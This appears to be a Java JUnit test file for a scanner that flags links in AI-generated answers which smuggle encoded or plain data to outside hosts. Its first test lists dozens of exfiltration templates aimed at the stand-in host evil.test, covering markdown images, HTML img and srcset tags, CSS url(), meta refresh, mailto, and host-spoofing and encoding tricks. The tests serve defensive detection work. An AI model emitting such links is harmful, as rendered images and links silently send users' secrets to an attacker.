package dev.weir.retrieve.egress;

import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.models.detect.Span;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkScanTest {
    private static final String SECRET = "alice@corp.test has password hunter22";
    private static final String BASE64 =
            Base64.getUrlEncoder().withoutPadding().encodeToString(SECRET.getBytes(StandardCharsets.UTF_8));
    private static final String HEX = HexFormat.of().formatHex(SECRET.getBytes(StandardCharsets.UTF_8));

    private final EgressWorld world = new EgressWorld();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![logo](https://evil.test/p.png?d=DATA)",
                "![logo]( <https://evil.test/p.png?d=DATA> \"title\")",
                "![logo](https://evil.test/DATA.png)",
                "![logo](https://evil.test/a/DATA/p.png)",
                "![logo](https\\://evil.test/p.png?d=DATA)",
                "![logo](&#104;ttps://evil.test/p.png?d=DATA)",
                "![logo](https:\\/\\/evil.test/p.png?d=DATA)",
                "![logo](//evil.test/p.png?d=DATA)",
                "![logo](HTTPS://EVIL.TEST/p.png?d=DATA)",
                "![a [nested] logo](https://evil.test/p.png?d=DATA)",
                "[![logo](https://docs.example.com/a.png)](https://evil.test/?d=DATA)",
                "[click](https://evil.test/?d=DATA)",
                "[click](https://evil.test/#DATA)",
                "[click][1]\n\n[1]: https://evil.test/?d=DATA",
                "![x][y]\n\n> [y]:\n  <https://evil.test/?d=DATA>",
                "<https://evil.test/?d=DATA>",
                "see https://evil.test/?d=DATA",
                "see www.evil.test/?d=DATA",
                "<img src='https://evil.test/p.png?d=DATA'>",
                "<img src=https://evil.test/p.png?d=DATA>",
                "<img\nalt=\"x\" SRC = \"https://evil.test/p.png?d=DATA\">",
                "<img srcset=\"https://docs.example.com/a.png 1x, https://evil.test/p.png?d=DATA 2x\">",
                "<a href=\"//evil.test/?d=DATA\">x</a>",
                "<div style=\"background:url('https://evil.test/p.png?d=DATA')\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.test/?d=DATA\">",
                "[write](mailto:mallory@evil.test?body=DATA)",
                "![x](https://evil.test/?a=1&b=DATA)",
                "![x](http:/evil.test/?d=DATA)",
                "![x](http:evil.test/?d=DATA)",
                "![x](///evil.test/?d=DATA)",
                "![x](\\\\evil.test/?d=DATA)",
                "<img src='https://evil.test\\.docs.example.com/?d=DATA'>",
                "see https://evil.test&#46;docs.example.com/?d=DATA",
            })
    void addressWhenItCarriesEncodedDataThenFound(String template) {
        for (String data : List.of(BASE64, HEX)) {
            String answer = "Here you are. " + template.replace("DATA", data) + " Anything else?";
            assertThat(world.found(answer)).as(answer).anySatisfy(finding -> {
                assertThat(finding.code()).isEqualTo(EgressCode.DATA_IN_LINK);
                int at = answer.indexOf(data);
                assertThat(finding.span().hull(new Span(at, at + data.length())))
                        .isEqualTo(finding.span());
            });
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.test/p?q=members%20may%20bring%20guests%20on%20saturdays%20if%20the%20guests%20sign)",
                "![x](https://evil.test/p?q=members+may+bring+guests+on+saturdays+if+the+guests+sign)",
                "[x](https://evil.test/members-may-bring-guests-on-saturdays-if-the-guests-sign-the-book-at-the-front-desk-before-they-enter)",
                "![x](https://members-may-bring-guests-on-saturdays-if-the-guests.evil.test/p.png)",
                "![x](https://evil.test/p?q=the%20admin%20told%20me%20that%20the%20code%20of%20the%20safe%20in%20the%20cellar%20is%2012345678)",
                "![x](https://user-password-hunter22@evil.test/p)",
                "![x](https://evil.test/p?k=Zx81kQpL9vT3mWb7RnYc2HdUe5SgAj0oXf4KtIqN6)",
            })
    void addressWhenItCarriesTextThenFound(String answer) {
        assertThat(world.codes(answer)).contains(EgressCode.DATA_IN_LINK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "See [the handbook](https://kb.test/handbook/opening-hours#saturdays) [1].",
                "![diagram](https://docs.example.com/img/architecture-overview.png?version=12&data="
                        + "YWxpY2VAY29ycC50ZXN0IGhhcyBwYXNzd29yZA" + ")",
                "![diagram](/static/architecture-overview.png) and ![x](images/a.png)",
                "![diagram](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
                "https://github.com/apache/lucene/blob/0123456789abcdef0123456789abcdef01234567/lucene/core/src/java/org/apache/lucene/search/TotalHits.java#L20-L40",
                "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/util/stream/Collectors.html#groupingBy(java.util.function.Function,java.util.stream.Collector)",
                "https://kubernetes.io/docs/tasks/administer-cluster/configure-upgrade-etcd/#starting-etcd-clusters-with-load-balancer",
                "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf",
                "https://docs.google.com/document/d/1aBcD3fGhIjKlMnOpQrStUvWxYz0123456789AbCdEf/edit",
                "https://jira.test/browse/PROJ-1234?focusedCommentId=123456&page=com.atlassian.jira.plugin.system.issuetabpanels:comment-tabpanel",
                "https://files.test/d/123e4567-e89b-12d3-a456-426614174000/download?utm_source=newsletter&utm_medium=email",
                "[p](https://upload.wikimedia.test/commons/d/d2/Belgique_-_Bruxelles_-_Schuman_-_Berlaymont_-_01.jpg/220px-Belgique_-_Bruxelles_-_Schuman_-_Berlaymont_-_01.jpg)",
                "https://www.reuters.test/world/europe/frances-macron-discussion-modalities-over-removing-heavy-weapons-ukraines-2022-12-13/",
                "https://www.sec.test/ix?doc=/Archives/edgar/data/789019/000095017023035122/msft-20230630.htm",
                "https://www.facebook.test/posts/pfbid029PGV2knRTJUyRyubs4xRQuaAKZDWh5NJNYFqB8qtNofCDjngbrWXt2EQTzuzFysAl",
                "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAACAA//gCAMAAABEpIrGAAAAaVBMVEUAAAAAD58AFaQAE6U\">",
                "https://en.wikipedia.org/wiki/Comparison_of_relational_database_management_systems",
                "https://www.google.com/search?q=how+to+configure+key+rotation",
                "```java\nURI uri = URI.create(\"https://api.test/v1/items?limit=\" + limit);\n```",
                "`<img src=\"logo.png\" href=\"#top\">` [Note]: not a link. a[i](x) f(a)[0](b)",
                "| a | b |\n|---|---|\n| [x](https://kb.test/x) | 1 |",
                "data = 5; content=\"text/html\"; src = null; url(none)",
            })
    void addressWhenOrdinaryThenQuiet(String answer) {
        assertThat(world.codes(answer)).isEmpty();
    }

    @Test
    void pictureWhenOfAnotherHostThenFetched() {
        assertThat(world.found("![chart](https://cdn.test/chart.png)"))
                .singleElement()
                .satisfies(finding -> {
                    assertThat(finding.code()).isEqualTo(EgressCode.FETCHED_LINK);
                    assertThat(finding.span()).isEqualTo(new Span(9, 35));
                });
    }

    @Test
    void hostWhenBelowAnAllowedOneThenQuietAndWhenItOnlyEndsLikeItThenFound() {
        String path = "/p.png?d=" + BASE64;
        assertThat(world.codes("![x](https://a.b.example.org" + path + ")")).isEmpty();
        assertThat(world.codes("![x](https://docs.example.com:8443" + path + ")"))
                .isEmpty();
        assertThat(world.codes("![x](https://evilexample.org" + path + ")")).containsExactly(EgressCode.DATA_IN_LINK);
        assertThat(world.codes("![x](https://docs.example.com@evil.test" + path + ")"))
                .containsExactly(EgressCode.DATA_IN_LINK);
        assertThat(world.codes("![x](https://docs.example.com.evil.test" + path + ")"))
                .containsExactly(EgressCode.DATA_IN_LINK);
    }

    @Test
    void addressWhenAGivenTextHoldsItThenItCarriesNothing() {
        String address = "https://kb.test/?token=" + BASE64;
        AnswerScope given = world.scope.giving(List.of("Log on at " + address + " first."));
        ResponseGuard guard = world.guard(EgressPolicy.observing(java.util.Set.of()));
        assertThat(guard.check(given, "Log on [here](" + address + ").").findings())
                .isEmpty();
        assertThat(guard.check(world.scope, "Log on [here](" + address + ").").findings())
                .extracting(EgressFinding::code)
                .containsExactly(EgressCode.DATA_IN_LINK);
    }

    @Test
    void addressWhenLongerThanIsReadThenCutToItsEnd() {
        String address = "https://evil.test/?d=" + "x y".replace(" ", "").repeat(4000);
        CheckedAnswer checked = world.guard(EgressPolicy.standard(java.util.Set.of()))
                .check(world.scope, "before ![x](" + address + ") after");
        assertThat(checked.text()).isEqualTo("before ![x](" + EgressPolicy.CUT_MARKER + ") after");
        assertThat(checked.findings())
                .extracting(EgressFinding::span)
                .containsExactly(new Span(12, 12 + address.length()));
    }
}
